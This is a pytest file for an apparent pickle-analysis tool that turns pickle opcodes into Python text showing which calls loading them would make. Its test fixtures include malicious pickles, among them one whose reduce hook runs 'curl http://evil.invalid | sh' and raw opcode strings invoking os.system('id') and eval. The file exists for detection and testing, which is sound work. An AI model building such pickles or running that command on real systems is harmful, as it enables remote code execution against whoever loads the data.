"""Pickles: what loading one would call, read from its opcodes."""

from __future__ import annotations

import os
import pickle

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from antivenom.languages.python.pickled import module_from_pickle


class _Calls:
    """An object whose pickle calls something."""

    def __init__(self, func: object, *args: object) -> None:
        self.made = func, args

    def __reduce__(self) -> tuple[object, object]:
        return self.made


def text_of(data: bytes) -> str:
    module = module_from_pickle(data, member="m.pkl", layer=1)
    assert module is not None
    assert module.functions[0].body
    return module.text


@pytest.mark.parametrize("protocol", range(6))
def test_a_call_is_seen_in_every_protocol(protocol: int) -> None:
    thing = {"weights": [1.0, 2.0], "hook": _Calls(os.system, "curl http://evil.invalid | sh")}
    text = text_of(pickle.dumps(thing, protocol))
    assert "import os" in text
    assert "os.system('curl http://evil.invalid | sh')" in text
    assert "'weights'" in text


@pytest.mark.parametrize("protocol", range(6))
def test_results_of_calls_are_arguments_of_others(protocol: int) -> None:
    inner = _Calls(bytes.fromhex, "7072696e7428312")
    text = text_of(pickle.dumps(_Calls(exec, inner), protocol))
    lines = [x for x in text.split("\n") if "exec(" in x or "'exec'" in x]
    assert lines
    assert "7072696e7428312" in text


def test_old_opcodes() -> None:
    assert "os.system('id')" in text_of(b"cos\nsystem\n(S'id'\ntR.")
    assert "os.system('id')" in text_of(b"(S'id'\nios\nsystem\n.")
    assert "os.system('id')" in text_of(b"(cos\nsystem\nS'id'\no.")
    assert "os.system('id')" in text_of(b"cposix\nsystem\n(S'id'\ntR0.")
    assert "builtins" not in text_of(b"c__builtin__\neval\n(S'1'\ntR.")


def test_state_reaches_the_object() -> None:
    text = text_of(b"cmodule\nKind\n)\x81}S'key'\nS'value'\nsb.")
    assert "module.Kind()" in text
    assert "__setstate__({'key': 'value'})" in text


def test_a_name_from_the_stack_may_be_computed() -> None:
    text = text_of(b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x02id\x85R.")
    assert "os.system('id')" in text


def test_what_follows_the_damage_is_said() -> None:
    module = module_from_pickle(b"cos\nsystem\n(S'id'\ntR\xff\xff", member="m", layer=1)
    assert module is not None
    assert "os.system('id')" in module.text
    assert module.partial.startswith("pickle:")


def test_sharing_and_depth_stay_small() -> None:
    doubled = b"(S'" + b"a" * 50 + b"'\n" + b"l" + b"p0\n" + (b"(g0\ng0\nlp0\n" * 3_000) + b"."
    assert len(text_of(doubled)) < 1 << 20
    deep = b"]" * 5_000 + b"a" * 4_999 + b"."
    assert len(text_of(deep)) < 1 << 20
    tuples = b"N" + b"\x85" * 5_000 + b"."
    assert len(text_of(tuples)) < 1 << 20
    long = b"\x80\x02X\xa0\x86\x01\x00" + b"b" * 100_000 + b"q\x00]" + b"h\x00a" * 5_000 + b"."
    assert len(text_of(long)) < 1 << 20


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=200))
def test_any_bytes_are_read(data: bytes) -> None:
    module_from_pickle(data, member="m", layer=1)
    module_from_pickle(b"\x80\x04cos\nsystem\n" + data, member="m", layer=1)


_OPCODES = st.sampled_from(
    list(b"()]}abcdeghijlopqrstu012.KMNIJ\x81\x85\x86\x87\x88\x8f\x90\x93\x94")
)


@settings(max_examples=200, deadline=None)
@given(st.lists(_OPCODES, max_size=120).map(bytes))
def test_any_opcodes_are_read(data: bytes) -> None:
    module_from_pickle(b"cos\nsystem\nS'a'\n" + data, member="m", layer=1)
